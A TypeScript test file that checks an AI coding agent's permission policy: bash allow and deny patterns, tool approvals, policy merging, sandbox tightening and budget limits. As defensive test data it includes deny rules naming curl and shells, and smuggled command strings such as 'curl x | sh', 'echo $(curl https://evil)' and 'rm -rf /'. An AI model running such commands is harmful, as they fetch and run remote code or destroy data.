import { RiskProbe } from '../../../fixtures/call-risk';
import assert from 'node:assert/strict';
import { parseAgentPolicy, type AgentPolicy } from '../../../../src/core/policy/agent-policy';
import { mergePolicies } from '../../../../src/core/policy/merge-policy';
import { policyOffers, toolPolicyFrom } from '../../../../src/core/policy/policy-rules';
import { matchesPattern } from '../../../../src/core/policy/rule-patterns';

function policyOf(yaml: string): AgentPolicy {
  const { policy, problems } = parseAgentPolicy(yaml);
  assert.deepEqual(problems, []);
  return policy!;
}

const POLICY = policyOf(`
tools:
  deny: [background_run, "mcp__*__delete_*"]
  bash:
    allow: ["git status", "git diff*", "npm test", "ls*", "cat*"]
    deny: ["git push*", "rm -rf*", "curl*", "sh", "bash*"]
approvals:
  require_for: [edit_file]
  auto_approve: [read_only, write_file]
`);

const rules = toolPolicyFrom(() => POLICY);
const bash = (command: string) =>
  rules.evaluate({ toolName: 'bash', input: { command }, command, readOnly: false, needsApproval: true });
const action = (command: string) => bash(command).action;

describe('the tool rules of .openagent/agent.yaml', () => {
  it('matches tool and command patterns with * only', () => {
    assert.ok(matchesPattern('mcp__*__delete_*', 'mcp__github__delete_repo'));
    assert.ok(!matchesPattern('mcp__*__delete_*', 'mcp__github__list_repos'));
    assert.ok(matchesPattern('git diff*', 'git diff --stat'));
    assert.ok(!matchesPattern('git.status', 'gitXstatus'), 'a dot is a dot');
  });

  it('commands: deny wins in any segment, however it is chained or hidden; unparseable asks', () => {
    const cases: Array<[string, string]> = [
      ['git status', 'allow'],
      ['git diff --stat && npm test', 'allow'],
      ['git status; curl x | sh', 'deny'],
      ['git show > ~/.bashrc', 'ask'], // a redirection: not a plain allowed command
      ['echo $(curl https://evil)', 'deny'],
      ['echo `rm -rf /`', 'deny'],
      ['git status\ngit push origin main', 'deny'],
      ['git status\r\ngit push', 'deny'],
      [Array.from({ length: 60 }, () => 'git status').join(' && '), 'allow'],
      [`${Array.from({ length: 60 }, () => 'git status').join(' && ')} && git push`, 'deny'],
      ["bash -c 'git push --force'", 'deny'],
      ['env X=1 git push', 'deny'],
      ['env X=1 git status', 'ask'], // a wrapper or assignment voids an allow that does not name it
      ['npm install', 'ask'], // neither allowed nor denied: the default asks
      ['echo "unterminated', 'ask'],
      ['cat <<EOF\nhi\nEOF', 'ask'],
    ];
    for (const [command, expected] of cases) assert.equal(action(command), expected, JSON.stringify(command));
    const denied = bash('git status; curl x | sh');
    assert.equal(
      denied.action === 'deny' && denied.reason,
      '`curl x` matches bash.deny "curl*" in .openagent/agent.yaml.',
    );
  });

  it('tools: deny and allow lists, approvals required or automatic, protected paths still ask', async () => {
    const evaluate = (toolName: string, readOnly: boolean, input: unknown = {}) =>
      rules.evaluate({ toolName, input, readOnly, needsApproval: !readOnly });
    assert.equal(evaluate('background_run', false).action, 'deny');
    assert.equal(evaluate('mcp__github__delete_repo', false).action, 'deny');
    assert.equal(evaluate('edit_file', false).action, 'ask', 'require_for');
    assert.deepEqual(evaluate('write_file', false, { path: 'notes.md' }), {
      action: 'allow',
      source: 'policy',
      rule: 'approvals.auto_approve "write_file"',
    });
    const probe = new RiskProbe();
    const protectedWrite = await probe.outcome('write_file', { path: '.env', content: 'x' }, { policy: rules });
    assert.equal(protectedWrite.outcome, 'asked', 'a protected path asks anyway');
    assert.equal(protectedWrite.request?.risk.protectedPath, true);
    assert.deepEqual(evaluate('read_file', true), {
      action: 'allow',
      source: 'policy',
      rule: 'approvals.auto_approve "read_only"',
    });
    assert.equal(policyOffers(POLICY, 'background_run'), false);
    assert.equal(policyOffers(POLICY, 'read_file'), true);

    const allowList = toolPolicyFrom(() => policyOf('tools: { allow: [read_file, "mcp__github__*"] }'));
    const verdict = allowList.evaluate({
      toolName: 'bash',
      input: { command: 'ls' },
      readOnly: false,
      needsApproval: true,
    });
    assert.deepEqual(verdict, { action: 'deny', reason: 'bash is not in tools.allow of .openagent/agent.yaml.' });
    assert.equal(policyOffers(policyOf('tools: { allow: [read_file] }'), 'write_file'), false);
  });

  it('without a policy behaves as before: reading tools run, the rest ask', () => {
    const none = toolPolicyFrom(() => undefined);
    assert.equal(
      none.evaluate({
        toolName: 'bash',
        input: { command: 'rm -rf /' },
        command: 'rm -rf /',
        readOnly: false,
        needsApproval: true,
      }).action,
      'ask',
    );
    assert.equal(
      none.evaluate({ toolName: 'read_file', input: {}, readOnly: true, needsApproval: false }).action,
      'allow',
    );
  });
});

describe('user policy defaults with a workspace policy', () => {
  it('lets the workspace decide its sections, but deny lists add up', () => {
    const user = policyOf(
      'tools: { deny: [background_run], bash: { deny: ["git push*"], allow: ["ls*"] } }\nbudget: { daily_usd: 5 }',
    );
    const workspace = policyOf('tools: { allow: [read_file, bash], bash: { allow: ["npm test"], deny: ["curl*"] } }');
    const merged = mergePolicies(user, workspace)!;
    assert.deepEqual(merged.tools, {
      allow: ['read_file', 'bash'],
      deny: ['background_run'],
      bash: { allow: ['npm test'], deny: ['git push*', 'curl*'] },
    });
    assert.equal(merged.budget?.daily_usd, 5, 'a section only the user set stays');
    const rules = toolPolicyFrom(() => merged);
    const run = (command: string) =>
      rules.evaluate({ toolName: 'bash', input: { command }, command, readOnly: false, needsApproval: true }).action;
    assert.equal(run('git push'), 'deny', 'the workspace cannot lift the user’s deny');
    assert.equal(run('npm test'), 'allow');
    assert.deepEqual(mergePolicies(undefined, workspace), workspace);
    assert.equal(mergePolicies(user, undefined), user);
  });

  it('the sandbox: a workspace can tighten it, never loosen it, nor grant the network or secrets', () => {
    const loose = policyOf('sandbox: off\ncommands: { network: true, pass_env: [AWS_SECRET_ACCESS_KEY] }');
    const alone = mergePolicies(undefined, loose)!;
    assert.equal(alone.sandbox, undefined, "a workspace's off means nothing");
    assert.deepEqual(alone.commands, {}, 'no network, no secret passed');
    const user = policyOf('sandbox: auto\ncommands: { network: true, pass_env: [GITHUB_TOKEN, NPM_TOKEN] }');
    assert.equal(mergePolicies(user, policyOf('sandbox: required'))?.sandbox, 'required');
    assert.equal(mergePolicies(user, loose)?.sandbox, 'auto');
    assert.deepEqual(mergePolicies(user, policyOf('sandbox: auto'))?.commands, {
      network: true,
      pass_env: ['GITHUB_TOKEN', 'NPM_TOKEN'],
    });
    assert.deepEqual(
      mergePolicies(user, policyOf('commands: { network: false, pass_env: [NPM_TOKEN, X] }'))?.commands,
      {
        pass_env: ['NPM_TOKEN'],
      },
    );
  });

  it('refuses a policy file too large or with too many patterns, naming the problem', () => {
    const huge = `tools:\n  bash:\n    allow:\n${'      - "git status*"\n'.repeat(20_000)}`;
    const parsed = parseAgentPolicy(huge);
    assert.equal(parsed.policy, undefined);
    assert.match(parsed.problems[0]?.message ?? '', /KB; at most 256 KB/);
    const many = parseAgentPolicy(
      `tools:\n  bash:\n    allow: [${Array.from({ length: 1_001 }, (_, i) => `"c${i}"`).join(', ')}]\n`,
    );
    assert.equal(many.policy, undefined);
    assert.match(many.problems[0]?.message ?? '', /tools\.bash\.allow/);
  });

  it('applies both sets of budgets: the lower limit wins and block wins over warn', () => {
    const user = policyOf('budget: { daily_usd: 5, monthly_usd: 40, on_exceeded: warn }');
    const workspace = policyOf('budget: { daily_usd: 50, per_conversation_usd: 2, monthly_tokens: 1000000 }');
    assert.deepEqual(mergePolicies(user, workspace)!.budget, {
      daily_usd: 5,
      monthly_usd: 40,
      per_conversation_usd: 2,
      monthly_tokens: 1_000_000,
    });
    const warnBoth = mergePolicies(user, policyOf('budget: { daily_usd: 1, on_exceeded: warn }'))!.budget;
    assert.deepEqual(warnBoth, { daily_usd: 1, monthly_usd: 40, on_exceeded: 'warn' });
    const blocking = mergePolicies(user, policyOf('budget: { on_exceeded: block }'))!.budget;
    assert.equal(blocking?.on_exceeded, 'block');
  });
});
